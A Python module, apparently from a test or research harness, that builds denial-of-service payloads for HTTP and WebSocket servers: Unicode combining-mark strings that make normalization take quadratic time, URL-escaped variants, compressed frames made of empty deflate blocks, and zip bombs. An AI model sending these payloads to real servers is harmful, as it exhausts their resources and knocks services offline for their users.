"""The data of the attacks: requests, messages, and texts that are expensive to process."""

import dataclasses
import functools
from urllib.parse import quote_from_bytes

import paths  # noqa: F401
from deflate import EMPTY_DYNAMIC, RSV1, bomb
from wire import BINARY, TEXT, frame, upgrade_request

KIB, MIB = 1 << 10, 1 << 20
JSON, FORM = b"application/json", b"application/x-www-form-urlencoded"
DEFLATE = "permessage-deflate"


def marks(size):
    """Returns bytes of unordered combining marks: a simple normalization takes quadratic time."""
    return "\u0300\u0316".encode() * (size // 4)


def escaped_marks(size):
    """Returns the same in this many bytes of a URL."""
    return quote_from_bytes(marks(size // 3)).encode()


@dataclasses.dataclass
class Address:
    """Sets the address of the server, for requests to name it."""

    host: str
    port: int

    @property
    def authority(self):
        return f"{self.host}:{self.port}"

    def request(self, method, path, *lines):
        """Returns a request without content; `lines` are additional header lines."""
        head = [f"{method} ".encode() + path + b" HTTP/1.1", b"Host: " + self.authority.encode()]
        return b"\r\n".join([*head, *lines, b"", b""])

    def get(self, path, *lines):
        return self.request("GET", path, *lines)

    def post(self, path, body, kind=JSON):
        lines = [b"Content-Type: " + kind, b"Content-Length: %d" % len(body)]
        return self.request("POST", path, *lines) + body

    def upgrade(self, path, **headers):
        return upgrade_request(path, self.authority, **headers)

    def deflating(self, path, parameters=""):
        """Returns an upgrade that offers compression."""
        return self.upgrade(path, Sec_WebSocket_Extensions=DEFLATE + parameters)


def text(payload, **options):
    return frame(TEXT, payload, **options)


def deflated(payload, kind=BINARY):
    """Returns the only frame of a message whose payload is already compressed."""
    return frame(kind, payload, rsv=RSV1)


@functools.cache
def empty_blocks(size):
    """Returns a compressed message of this many bytes that consists of tables, and decompresses to
    nothing.
    """
    # The blocks repeat when they end at a byte boundary.
    period = EMPTY_DYNAMIC.text * 8
    unit = int(period[::-1], 2).to_bytes(len(period) // 8, "little")
    return unit * (size // len(unit)) + b"\x00"


@functools.cache
def zip_bomb(size):
    return deflated(bomb(size))
